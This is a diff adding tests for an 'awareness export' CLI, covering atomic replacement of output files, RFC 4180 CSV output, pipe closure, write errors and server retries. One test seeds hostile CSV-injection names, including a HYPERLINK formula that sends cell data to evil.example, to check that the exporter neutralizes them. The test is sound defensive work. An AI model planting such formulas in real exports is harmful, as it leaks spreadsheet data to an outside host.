@@ -1,16 +1,24 @@
 // `awareness export`: NDJSON equals the API walk; CSV parses back to the same rows and values.
 
 import assert from 'node:assert/strict'
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
+import { spawn } from 'node:child_process'
+import { once } from 'node:events'
+import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { after, before, describe, test } from 'node:test'
+import { fileURLToPath } from 'node:url'
 import { parse } from 'csv-parse/sync'
 import { toRows } from '../../src/cli/export-rows.js'
+import { importSources } from '../../src/importer/import.js'
 import { type TestApp, testApp } from '../helpers/app.js'
 import { runCli } from '../helpers/cli.js'
-import { type ApiDataset, apiDataset } from '../helpers/dataset.js'
+import { type ApiDataset, alteredKey, apiDataset } from '../helpers/dataset.js'
 import * as oracle from '../helpers/oracle.js'
+import { overloadedProxy } from '../helpers/overloaded-proxy.js'
+import { employee, source, workspace } from '../helpers/records.js'
+
+const ENTRY = fileURLToPath(new URL('../helpers/cli-entry.ts', import.meta.url))
 
 describe('awareness export', () => {
   let t: TestApp
@@ -81,6 +89,132 @@ describe('awareness export', () => {
         )
       assert.equal(parsed.length, expected.length, resource)
       assert.deepEqual(parsed, expected, resource)
+    }
+  })
+
+  test('a failed export leaves the file it would replace untouched, and no partial file', async () => {
+    const keep = join(dir, 'keep.csv')
+    writeFileSync(keep, 'yesterday\r\n'.repeat(1145))
+    const before = readFileSync(keep)
+    for (const [env_, args] of [
+      [{ AWARENESS_API_KEY: alteredKey(env.AWARENESS_API_KEY as string) }, ['--workspace', d.a1]],
+      [env, ['--workspace', d.b1]],
+    ] as const) {
+      const result = await runCli(
+        ['export', 'employees', ...args, '--url', url, '--format', 'csv', '--out', keep],
+        { env: env_ },
+      )
+      assert.equal(result.code, 1)
+      assert.deepEqual(readFileSync(keep), before)
+      assert.deepEqual(
+        readdirSync(dir).filter((f) => f.includes('keep.csv')),
+        ['keep.csv'],
+      )
+    }
+    const done = await runCli(
+      ['export', 'employees', '--workspace', d.a1, '--url', url, '--format', 'csv', '--out', keep],
+      { env },
+    )
+    assert.equal(done.code, 0, done.stderr)
+    assert.notDeepEqual(readFileSync(keep), before, 'a complete export replaces it')
+  })
+
+  test('CSV is RFC 4180 with CRLF, neutralizes formulas, and takes a BOM on request', async () => {
+    const ws = workspace(d.orgA.id as string)
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\tTab',
+      '\rReturn',
+      'Plain, "quoted"',
+    ]
+    await importSources(t.db.handle, [
+      source([ws, ...hostile.map((name) => employee(ws.id as string, { name }))]),
+    ])
+    const out = join(dir, 'hostile.csv')
+    const result = await runCli(
+      [
+        'export',
+        'employees',
+        '--workspace',
+        ws.id as string,
+        '--url',
+        url,
+        '--format',
+        'csv',
+        '--bom',
+        '--out',
+        out,
+      ],
+      { env },
+    )
+    assert.equal(result.code, 0, result.stderr)
+    const bytes = readFileSync(out)
+    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
+    const text = bytes.subarray(3).toString('utf8')
+    assert.ok(text.endsWith('\r\n'))
+    assert.equal(text.split('\r\n').length - 1, hostile.length + 1, 'one CRLF per record')
+    const names = (parse(text, { columns: true }) as Record<string, string>[]).map((r) => r.name).sort()
+    assert.deepEqual(names, hostile.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)).sort())
+  })
+
+  test('a closed pipe (| head) ends the export quietly with exit 0', async () => {
+    const ws = workspace(d.orgA.id as string)
+    const many = Array.from({ length: 400 }, () => employee(ws.id as string, { job_title: 'x'.repeat(600) }))
+    await importSources(t.db.handle, [source([ws, ...many])])
+    for (const format of ['ndjson', 'csv']) {
+      const child = spawn(
+        process.execPath,
+        [
+          '--import',
+          'tsx',
+          ENTRY,
+          'export',
+          'employees',
+          '--workspace',
+          ws.id as string,
+          '--url',
+          url,
+          '--format',
+          format,
+        ],
+        { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] },
+      )
+      let stderr = ''
+      child.stderr.on('data', (c) => (stderr += c))
+      // Like `head -2`: read a little, then close the pipe.
+      await once(child.stdout, 'data')
+      child.stdout.destroy()
+      const [code] = (await once(child, 'exit')) as [number]
+      assert.equal(code, 0, `${format}: ${stderr}`)
+      assert.equal(stderr, '', format)
+    }
+  })
+
+  test('an --out that cannot be written is one line naming it', async () => {
+    const result = await runCli(['export', 'organization', '--url', url, '--out', '/nonexistent/dir/x.csv'], {
+      env,
+    })
+    assert.equal(result.code, 1)
+    assert.equal(result.stderr, 'awareness: cannot write /nonexistent/dir/x.csv: no such directory\n')
+    assert.equal(result.stdout, '')
+  })
+
+  test('an overloaded server (503, Retry-After) is waited for, and the export completes', async () => {
+    const proxy = await overloadedProxy(url, 2)
+    try {
+      const result = await runCli(['export', 'employees', '--workspace', d.a1, '--url', proxy.base], { env })
+      assert.equal(result.code, 0, result.stderr)
+      assert.equal(proxy.refused(), 2)
+      const lines = result.stdout
+        .trim()
+        .split('\n')
+        .map((l) => JSON.parse(l))
+      assert.deepEqual(lines, oracle.employees(d.all, d.a1))
+    } finally {
+      await proxy.close()
     }
   })
 
